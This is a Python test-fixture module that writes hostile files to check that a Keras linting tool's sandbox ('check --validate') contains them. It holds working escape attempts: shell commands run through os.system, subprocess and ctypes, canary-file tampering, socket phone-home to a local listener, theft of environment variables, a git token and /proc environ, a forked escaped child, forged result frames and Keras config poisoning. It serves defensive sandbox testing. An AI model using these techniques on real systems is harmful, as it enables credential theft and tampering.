"""Hostile files for `check --validate`: each one tries to escape the build sandbox.

Every attack is spelled so that the build program's rewriter does not drop it (getattr,
__import__, ctypes, private modules...), because the OS sandbox, not the rewriter, must
stop it. Each attack runs under try/except so a file tries all of its attacks, then
builds a tiny model (proof that the file ran to its end). Targets are canaries under a
temp dir and a listener on 127.0.0.1.
"""
from __future__ import annotations

import shutil
import textwrap
from dataclasses import dataclass
from pathlib import Path

ESCAPEE_NAME = "shplnt-escapee"     # what an escaped child calls itself (/proc/PID/comm)
FINISHED = "import keras\nkeras.layers.Dense(2)(keras.Input((3,)))   # the file ran to its end\n"


@dataclass
class Targets:
    root: Path
    port: int                   # TCP (and UDP) listener on 127.0.0.1
    env_secret: str             # value of SHAPELINT_CANARY_SECRET in shapelint's environment
    file_secret: str            # content of secrets/canary.txt (mode 0644: anyone may read it)
    git_secret: str             # a token in the project's .git/config, as a CI checkout has

    @property
    def canaries(self) -> Path:
        return self.root / "canaries"

    @property
    def project(self) -> Path:
        return self.root / "project"

    @property
    def secret_file(self) -> Path:
        return self.root / "secrets" / "canary.txt"


def plant(t: Targets) -> None:
    """The canaries and the project (a checkout: .git, a tracked file, a sibling module)."""
    t.canaries.mkdir(parents=True)
    for name in ("victim.txt", "victim2.txt", "locked.txt"):
        (t.canaries / name).write_text(f"original {name}\n")
    t.secret_file.parent.mkdir()
    t.secret_file.write_text(t.file_secret + "\n")
    t.secret_file.chmod(0o644)
    (t.project / ".git").mkdir(parents=True)
    (t.project / ".git" / "config").write_text(
        f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {t.git_secret}\n')
    (t.project / "tracked.py").write_text("VALUE = 1\n")
    (t.project / "evil_sibling.py").write_text(_prelude(t) + textwrap.dedent(f"""
        attempt(lambda: OPEN({str(t.project / 'conftest.py')!r}, "w").write("import os\\n"))
        attempt(lambda: OPEN({str(t.project / 'tracked.py')!r}, "a").write("PWNED = 1\\n"))
        attempt(lambda: getattr(os, "system")("touch {t.canaries}/sibling-system"))
        attempt(lambda: _socket.socket().connect(("127.0.0.1", {t.port})))
        """))


def _prelude(t: Targets) -> str:
    return textwrap.dedent(f"""\
        import builtins, io, os, sys, time, threading, ctypes, _socket
        import keras
        OPEN = getattr(builtins, "op" + "en")
        PRINT = getattr(builtins, "pri" + "nt")
        CANARIES = {str(t.canaries)!r}
        VICTIM = CANARIES + "/victim.txt"
        PORT = {t.port}

        def attempt(action):
            try:
                action()
            except BaseException:
                pass

        def phone_home(payload=b"leak"):
            s = _socket.socket()
            s.settimeout(1)
            s.connect(("127.0.0.1", PORT))
            s.sendall(payload)
        """)


def _file(t: Targets, name: str, body: str, finish: bool = True) -> tuple[str, str]:
    return name, _prelude(t) + textwrap.dedent(body) + (FINISHED if finish else "")


def attacks(t: Targets) -> list[tuple[str, str]]:
    """(file name, source) of every attack, in the order they are validated."""
    c = t.canaries
    return [
        _file(t, "a01_commands.py", f"""
            attempt(lambda: getattr(os, "system")("echo pwned > {c}/system.txt"))
            attempt(lambda: __import__("subprocess").run(["sh", "-c", "echo pwned > {c}/subprocess.txt"]))
            attempt(lambda: ctypes.CDLL(None).system(b"echo pwned > {c}/ctypes.txt"))
            attempt(lambda: os.execv("/bin/sh", ["sh", "-c", "echo pwned > {c}/exec.txt"]))
            """),
        _file(t, "a02_file_system.py", """
            def pwrite():
                fd = os.open(VICTIM, os.O_WRONLY)
                os.pwrite(fd, b"pwned", 0)
            attempt(pwrite)
            attempt(lambda: io.FileIO(CANARIES + "/victim2.txt", "w").write(b"pwned"))
            attempt(lambda: os.truncate(CANARIES + "/locked.txt", 0))
            attempt(lambda: os.chmod(VICTIM, 0o777))
            attempt(lambda: os.symlink(VICTIM, CANARIES + "/symlink"))
            attempt(lambda: os.link(VICTIM, CANARIES + "/hardlink"))
            attempt(lambda: os.replace(CANARIES + "/victim2.txt", VICTIM))
            attempt(lambda: os.unlink(CANARIES + "/locked.txt"))
            attempt(lambda: getattr(os, "mkdir")(CANARIES + "/dir"))
            attempt(lambda: OPEN(CANARIES + "/new.txt", "x").write("pwned"))
            """),
        _file(t, "a03_network.py", """
            attempt(phone_home)
            udp = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
            attempt(lambda: udp.sendto(b"leak", ("127.0.0.1", PORT)))
            url = f"http://127.0.0.1:{PORT}/leak"
            attempt(lambda: __import__("urllib.request").request.urlopen(url, timeout=1))
            attempt(lambda: _socket.getaddrinfo("example.com", 80))
            """),
        _file(t, "a04_after_the_build.py", """
            def later():
                time.sleep(1.5)
                attempt(lambda: OPEN(VICTIM, "w").write("pwned by a thread"))
                attempt(phone_home)
            threading.Thread(target=later).start()
            """),
        _file(t, "a05_custom_layer.py", """
            import keras
            from keras import layers

            class Evil(layers.Layer):
                def build(self, shape):
                    attempt(lambda: OPEN(VICTIM, "a").write("pwned by build()"))
                    attempt(phone_home)

                def call(self, x):
                    attempt(lambda: getattr(os, "system")("touch " + CANARIES + "/layer-call"))
                    return x

            Evil()(keras.Input((4,)))
            """),
        _file(t, "a06_hidden_places.py", """
            def quietly(action):
                attempt(action)
                return lambda f: f

            def with_default(x=attempt(lambda: OPEN(CANARIES + "/default.txt", "w"))):
                return x

            @quietly(lambda: OPEN(CANARIES + "/decorator.txt", "w"))
            def decorated():
                pass

            class Body:
                attempt(lambda: OPEN(CANARIES + "/class-body.txt", "w"))

            code = "open(%r, 'w').write('pwned')" % (CANARIES + "/exec.txt")
            attempt(lambda: getattr(builtins, "ex" + "ec")(code))
            import evil_sibling
            """),
        _file(t, "a07_secrets.py", f"""
            import keras
            from keras import layers

            stolen = []
            attempt(lambda: stolen.append(os.environ["SHAPELINT_CANARY_SECRET"]))
            attempt(lambda: stolen.append(OPEN({str(t.secret_file)!r}).read()))
            attempt(lambda: stolen.append(OPEN({str(t.project / '.git' / 'config')!r}).read()))
            def environ(pid):
                stolen.append(OPEN("/proc/%s/environ" % pid, "rb").read().decode("latin-1"))
            attempt(lambda: [attempt(lambda: environ(pid)) for pid in os.listdir("/proc") if pid.isdigit()])
            attempt(lambda: environ(os.getppid()))
            PRINT("STOLEN:", stolen)
            PRINT("STOLEN:", stolen, file=sys.stderr)
            layers.Dense(" ".join(stolen) or "nothing")(keras.Input((3,)))
            """, finish=False),
        _file(t, "a08_secret_in_exception.py", f"""
            data = "nothing"
            attempt(lambda: globals().update(data=OPEN({str(t.secret_file)!r}).read()))
            env = os.environ.get("SHAPELINT_CANARY_SECRET", "none")
            raise ValueError("contents: " + data + " env: " + env)
            """, finish=False),
        _file(t, "a09_dies_loudly.py", f"""
            def shout():
                for source in ({str(t.secret_file)!r}, "/proc/self/environ"):
                    attempt(lambda: PRINT(OPEN(source).read()))
                    attempt(lambda: os.write(2, OPEN(source, "rb").read()))
                PRINT("SHAPELINT_CANARY_SECRET=" + os.environ.get("SHAPELINT_CANARY_SECRET", "unset"))
            shout()
            os._exit(7)
            """, finish=False),
        _file(t, "a10_forge_results.py", """
            import json, struct
            fake = json.dumps({"ok": True, "error": None, "calls": [], "ctors": []}).encode()
            frame = struct.pack(">I", len(fake)) + fake
            for fd in range(0, 256):
                attempt(lambda: os.write(fd, frame))
                attempt(lambda: os.write(fd, b'{"id": 99, "status": "done", "result": {"ok": true}}\\n'))
            for pid in range(1, 64):
                attempt(lambda: OPEN("/proc/%d/fd/1" % pid, "w").write('{"id": 99}\\n'))
            raise ValueError("\\x1b]0;pwned\\x07\\x1b[31mred\\x1b[0m\\n"
                             "::error file=forged.py,line=1::forged annotation\\u202e")
            """, finish=False),
        _file(t, "a11_poison_keras.py", """
            import keras
            from keras import layers

            class NeverFails(layers.Layer):
                def call(self, inputs):
                    return inputs[0]

            layers.Concatenate = NeverFails
            keras.layers.Concatenate = NeverFails
            keras.config.set_image_data_format("channels_first")
            settings = '{"image_data_format": "channels_first"}'
            attempt(lambda: OPEN(os.path.expanduser("~/.keras/keras.json"), "w").write(settings))
            """),
    ]


ESCAPEE = """
import builtins, ctypes, os, time, _socket
import keras
OPEN = getattr(builtins, "op" + "en")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"{name}", 0, 0, 0)   # PR_SET_NAME
        for _ in range(40):            # 20 s of trying, starting at once
            try:
                OPEN({victim!r}, "w").write("pwned by an escaped child")
            except BaseException:
                pass
            try:
                s = _socket.socket(); s.settimeout(0.2); s.connect(("127.0.0.1", {port})); s.sendall(b"late")
            except BaseException:
                pass
            time.sleep(0.5)
    os._exit(0)
keras.layers.Dense(2)(keras.Input((3,)))
"""


def escapee(t: Targets) -> str:
    return ESCAPEE.format(name=ESCAPEE_NAME, victim=str(t.canaries / "victim.txt"), port=t.port)


# Correct code the poisoned file would break if files shared a process: a CNN whose
# Conv2D needs channels_last (channels_first sees 28 channels and a 28x1 image).
CORRECT_CNN = """import keras
from keras import layers

inputs = keras.Input(shape=(28, 28, 1))
x = layers.Conv2D(8, 3, activation="relu")(inputs)
x = layers.MaxPooling2D()(x)
x = layers.Flatten()(x)
outputs = layers.Dense(10)(x)
model = keras.Model(inputs, outputs)
"""


def copy_fixture(source: Path, project: Path, name: str) -> Path:
    target = project / name
    shutil.copyfile(source, target)
    return target
